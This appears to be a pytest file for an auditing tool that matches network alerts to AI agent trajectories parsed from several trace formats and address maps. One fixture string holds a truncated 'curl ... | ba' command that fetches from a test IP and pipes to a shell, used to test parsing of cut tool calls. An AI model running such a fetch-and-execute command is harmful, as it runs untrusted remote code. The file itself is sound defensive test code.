"""Traces: our own, OpenTelemetry in both forms, trajectories through the intake; and the map."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from auditor.correlate.groups import Slack, scene_of
from auditor.correlate.mapping import read_map
from auditor.correlate.records import Alert
from auditor.correlate.traces import read_traces
from auditor.errors import UsageError
from tests.correlate.scenes import EPOCH, step_of

NATIVE = {
    "run_id": "r1", "traj_id": "train_0_1_2_3", "episode_id": 41, "step": 13, "sandbox_id": "sb-7", "host": "node1",
    "container_id": "", "sandbox_ip": "10.0.3.9", "tool": "shell", "call_id": "c1", "args": {"command": "make"},
    "t_start": "2026-01-01T03:12:55.104Z", "t_end": "2026-01-01T03:13:00Z", "children_alive_at_end": [4711],
}  # fmt: skip


def otlp(*spans: dict[str, object]) -> dict[str, object]:
    """Wrap spans as OTLP's JSON does."""
    host = {"key": "host.name", "value": {"stringValue": "node1"}}
    return {"resourceSpans": [{"resource": {"attributes": [host]}, "scopeSpans": [{"spans": list(spans)}]}]}


def span(name: str, id_: str, parent: str, start: int, end: int, **attributes: str) -> dict[str, object]:
    """Make one span of OTLP; times in seconds after an epoch."""
    return {
        "traceId": "t1",
        "spanId": id_,
        "parentSpanId": parent,
        "name": name,
        "startTimeUnixNano": str((1_790_000_000 + start) * 10**9),
        "endTimeUnixNano": str((1_790_000_000 + end) * 10**9),
        "attributes": [
            {"key": key.replace("__", "."), "value": {"stringValue": value}} for key, value in attributes.items()
        ],
    }


def test_a_native_trace(tmp_path: Path) -> None:
    """Every field is used; a call without an end lasts to the next one or 30 s; what has no time is counted."""
    rows = [
        NATIVE,
        {**NATIVE, "step": 14, "t_start": "2026-01-01T03:14:00Z", "t_end": None, "args": '{"command": "ls"}'},
        {**NATIVE, "step": 15, "t_start": "2026-01-01T03:14:10Z", "t_end": None, "args": "pwd"},
        {**NATIVE, "t_start": "some day"},
    ]
    path = tmp_path / "trace.jsonl"
    path.write_text("\n".join(map(json.dumps, rows)))
    traces = read_traces([str(path)])
    first, second, third = traces.steps
    assert (first.trajectory, first.step, first.address, first.host) == ("train_0_1_2_3", 13, "10.0.3.9", "node1")
    assert (first.outlives, first.has_end, first.sandbox, first.run) == (True, True, "sb-7", "r1")
    assert [step.text for step in traces.steps] == ["make", "ls", "pwd"]
    assert second.end - second.start == pytest.approx(10)
    assert third.end - third.start == pytest.approx(30)
    assert traces.untimed == 1


def test_spans_as_roll_emits_them(tmp_path: Path) -> None:
    """A `trajectory` span names the episode, `step` spans are the steps unless tool spans stand in them."""
    document = otlp(
        span("trajectory", "a", "", 0, 100, traj_id="tag_0_41_7_3", env_id="7", episode_id="41"),
        span("step", "b", "a", 1, 20),
        span("step", "c", "a", 30, 60),
        span("execute_tool bash", "d", "c", 35, 40, gen_ai__operation__name="execute_tool", gen_ai__tool__name="bash",
             gen_ai__tool__call__id="call-9", gen_ai__tool__call__arguments='{"command": "make"}'),
    )  # fmt: skip
    path = tmp_path / "spans.json"
    path.write_text(json.dumps(document, indent=1))
    steps = read_traces([str(path)]).steps
    assert [(step.trajectory, step.call_id, step.tool) for step in steps] == [
        ("tag_0_41_7_3", "b", "step"), ("tag_0_41_7_3", "call-9", "bash"),
    ]  # fmt: skip
    assert steps[1].text == "make"
    assert (steps[1].start, steps[1].end) == (1_790_000_035.0, 1_790_000_040.0)
    assert {step.host for step in steps} == {"node1"}


def test_flat_spans(tmp_path: Path) -> None:
    """The console exporter's spans, one a line."""
    line = {
        "name": "step", "context": {"trace_id": "0x1", "span_id": "0x2"}, "parent_id": None,
        "start_time": "2026-01-01T03:12:55.000000Z", "end_time": "2026-01-01T03:12:59.000000Z",
        "attributes": {"traj_id": "t_1", "action": "ls"}, "resource": {"attributes": {"host.name": "n2"}},
    }  # fmt: skip
    path = tmp_path / "spans.jsonl"
    path.write_text(json.dumps(line) + "\n")
    (step,) = read_traces([str(path)]).steps
    assert (step.trajectory, step.host, step.text, step.end - step.start) == ("t_1", "n2", "ls", 4.0)


def test_trajectories_come_through_the_intake(tmp_path: Path) -> None:
    """A session of Claude Code: the call's time is its start, the next call ends it."""
    lines = [
        {"type": "assistant", "sessionId": "s1", "uuid": str(number), "timestamp": f"2026-01-01T03:12:{number:02}.5Z",
         "message": {"content": [{"type": "tool_use", "id": f"c{number}", "name": "Bash", "input": {"command": "ls"}}]}}
        for number in (5, 9)
    ]  # fmt: skip
    (tmp_path / "s.jsonl").write_text("\n".join(map(json.dumps, lines)))
    first, second = read_traces([str(tmp_path)]).steps
    assert (first.trajectory, first.call_id, first.tool, first.text) == ("s1", "c5", "Bash", "ls")
    assert first.end - first.start == pytest.approx(4)
    assert second.end - second.start == pytest.approx(30)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("map.json", '[{"address": "10.0.0.1", "trajectory": "t", "start": "2026-01-01T00:00:00Z"}]'),
        ("map.yaml", "- {address: 10.0.0.1, trajectory: t, start: 2026-01-01T00:00:00Z}\n"),
        ("map.csv", "address,trajectory,start,end\n10.0.0.1,t,2026-01-01T00:00:00Z,\n"),
        ("map.jsonl", '{"address": "10.0.0.1", "trajectory": "t", "start": 1767225600}\n'),
    ],
)
def test_a_map_in_each_form(tmp_path: Path, name: str, text: str) -> None:
    """The same row, however it is written."""
    path = tmp_path / name
    path.write_text(text)
    (tie,) = read_map(path).ties
    assert (tie.identifier, tie.kind, tie.trajectory, tie.start) == ("10.0.0.1", "address", "t", 1_767_225_600.0)


@pytest.mark.parametrize("text", ["{", "{}", '[{"adress": "x"}]', '[{"address": "x"}]', '[{"beacon": "b"}]'])
def test_a_bad_map_is_refused(tmp_path: Path, text: str) -> None:
    """With the row and what was expected."""
    path = tmp_path / "map.json"
    path.write_text(text)
    with pytest.raises(UsageError):
        read_map(path)


def test_runs_and_the_group_of_an_alert() -> None:
    """Trajectories that hang together in time are one run; an address leads to its group, a stranger to none."""
    steps = [
        step_of("a", 1, EPOCH, EPOCH + 5, "ls", "10.0.0.1"),
        step_of("b", 1, EPOCH + 60, EPOCH + 65, "ls", "10.0.0.2"),
        step_of("c", 1, EPOCH + 90_000, EPOCH + 90_005, "ls", "10.0.0.1"),
    ]
    scene = scene_of(steps, (), Slack())
    assert [run.trajectories for run in scene.runs] == [("a", "b"), ("c",)]

    def group(src: str, moment: float) -> tuple[str, int] | None:
        alert = Alert("x", "s", moment, moment, src, 1, "203.0.113.1", 22, "tcp", "", "", "", "other", "", b"")
        found = scene.group_of(alert, moment)
        return (scene.groups[found].identifier, scene.groups[found].run) if found >= 0 else None

    assert group("10.0.0.1", EPOCH + 3) == ("10.0.0.1", 0)
    assert group("10.0.0.1", EPOCH + 90_003) == ("10.0.0.1", 1)
    assert group("10.0.0.1", EPOCH + 50_000) is None
    assert group("10.9.9.9", EPOCH + 3) is None


def test_roll_s_own_trace_files(tmp_path: Path) -> None:
    """Lines as `roll/utils/tracing/core.py` of github.com/alibaba/ROLL writes them: tool calls, else the step."""

    def line(name: str, start: float, end: float, env_step: int, **attrs: object) -> dict[str, object]:
        shared = {"env_id": 7, "tag": "swe", "group_id": 0, "mode": "train", "env_step": env_step, "train_step": 3}
        return {
            "trace_id": "t", "span_id": f"{name}{env_step}", "parent_id": None, "name": name,
            "phase": name.partition(".")[0], "category": "trajectory", "step": 3, "sample_id": f"s{env_step}",
            "traj_id": "swe_0_41_7", "attrs": {**shared, **attrs}, "start_time_ns": int((EPOCH + start) * 1e9),
            "end_time_ns": int((EPOCH + end) * 1e9), "duration_ms": 1.0, "pid": 4, "process_label": "env_7",
        }  # fmt: skip

    whole = 'Look. <tool_call> {"name": "bash", "arguments": {"command": "make"}} </tool_call>'
    cut = '<tool_call> {"name": "bash", "arguments": {"command": "curl http://203.0.113.5/a | ba'
    rows = [
        line("trajectory.step", 0, 20, 0),
        line("env.step", 9, 20, 0),
        line("trajectory.tool_call", 10, 19, 0, tool_name="bash", response_preview=whole, request_id="r0"),
        line("env.step", 30, 40, 1, response_preview="nothing to do"),
        line("trajectory.tool_call", 50, 60, 2, tool_name="bash", response_preview=cut, request_id="r2"),
        line("trajectory.lifetime", 0, 70, 0),
    ]
    path = tmp_path / "env_7-pid4.jsonl"
    path.write_text("\n".join(map(json.dumps, rows)))
    traces = read_traces([str(path)])
    assert (traces.untimed, traces.unread) == (0, 0)
    assert [(step.trajectory, step.step, step.call_id, step.tool) for step in traces.steps] == [
        ("swe_0_41_7", 0, "r0", "bash"), ("swe_0_41_7", 1, "env.step1", "env.step"), ("swe_0_41_7", 2, "r2", "bash"),
    ]  # fmt: skip
    assert [len(step.codes) for step in traces.steps] == [1, 0, 0]
    assert traces.steps[0].text == "make"
    assert "203.0.113.5" in traces.steps[2].asked
    assert traces.steps[0].start == pytest.approx(EPOCH + 10)


def test_calls_without_code_are_steps(tmp_path: Path) -> None:
    """A fetch by a browser tool takes time and reaches a host: its arguments say which."""
    calls = [("c1", "Bash", {"command": "ls"}), ("c2", "WebFetch", {"url": "http://203.0.113.5:8080/x"})]
    lines = [
        {"type": "assistant", "sessionId": "s1", "uuid": name, "timestamp": f"2026-01-01T03:12:{10 * at:02}.5Z",
         "message": {"content": [{"type": "tool_use", "id": name, "name": tool, "input": given}]}}
        for at, (name, tool, given) in enumerate(calls)
    ]  # fmt: skip
    (tmp_path / "s.jsonl").write_text("\n".join(map(json.dumps, lines)))
    first, second = read_traces([str(tmp_path / "s.jsonl")]).steps
    assert first.call_id == "c1"
    assert first.end - first.start == pytest.approx(10)
    assert (second.call_id, second.codes, second.tool) == ("c2", (), "WebFetch")
    assert second.text == '{"url":"http://203.0.113.5:8080/x"}'


def test_ports_of_a_shared_address(tmp_path: Path) -> None:
    """Behind SNAT with a block of ports for each sandbox, the source port tells whose an alert is."""
    path = tmp_path / "map.csv"
    path.write_text("address,ports,trajectory\n198.51.100.1,40000-40999,a\n198.51.100.1,41000-41999,b\n")
    given = read_map(path)
    assert [tie.ports for tie in given.ties] == [(40_000, 40_999), (41_000, 41_999)]
    steps = [step_of(name, 1, EPOCH, EPOCH + 5, "ls") for name in ("a", "b")]
    scene = scene_of(steps, given.ties, Slack())

    def trajectories(port: int) -> set[str]:
        alert = Alert("x", "s", EPOCH, EPOCH, "198.51.100.1", port, "203.0.113.1", 22, "tcp", "", "", "", "", "", b"")
        assert not scene.is_inbound(alert)
        number = scene.group_of(alert, EPOCH + 1)
        return {steps[each].trajectory for each in scene.groups[number].step.tolist()} if number >= 0 else set()

    assert trajectories(40_500) == {"a"}
    assert trajectories(41_999) == {"b"}
    assert trajectories(42_000) == set()
    path.write_text("address,ports,trajectory\n198.51.100.1,many,a\n")
    with pytest.raises(UsageError, match="ports"):
        read_map(path)
